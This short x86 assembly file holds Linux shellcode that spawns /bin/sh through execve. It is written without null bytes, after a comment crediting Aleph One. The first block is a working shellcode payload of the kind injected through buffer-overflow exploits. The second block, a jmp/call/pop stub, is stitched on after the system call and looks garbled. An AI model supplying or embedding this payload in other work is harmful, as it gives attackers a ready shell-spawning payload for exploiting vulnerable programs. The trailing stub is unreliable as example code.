# not run: Aleph One's string, without zeros
.intel_syntax noprefix
.globl _start
_start:
    xor eax, eax
    push eax
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    push eax
    push ebx
    mov ecx, esp
    cdq
    mov al, 11
    int 0x80
    jmp short 1f
2:  pop esi
    mov [esi + 8], esi
    mov byte ptr [esi + 7], al
    lea ecx, [esi + 8]
    int 0x80
    inc ebx
    dec edx
1:  call 2b
    .ascii "/bin/sh"
